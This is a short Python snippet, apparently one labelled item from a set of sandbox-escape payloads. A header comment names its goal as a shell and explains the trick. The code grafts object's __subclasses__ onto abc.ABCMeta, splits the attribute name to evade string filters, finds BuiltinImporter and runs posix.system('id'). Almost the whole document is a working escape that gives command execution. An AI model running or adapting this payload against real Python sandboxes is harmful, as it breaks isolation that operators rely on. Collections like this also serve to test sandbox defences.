# HARM: shell via BuiltinImporter | TRICK: Base(abc.ABC); functools.update_wrapper plants object's bound __subclasses__ on abc.ABCMeta (the metaclass), own class never passed anywhere
import abc, functools
functools.update_wrapper(abc.ABCMeta, object, assigned=('__sub' + 'classes__',), updated=())
class Base(abc.ABC): pass
for k in Base.__subclasses__():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
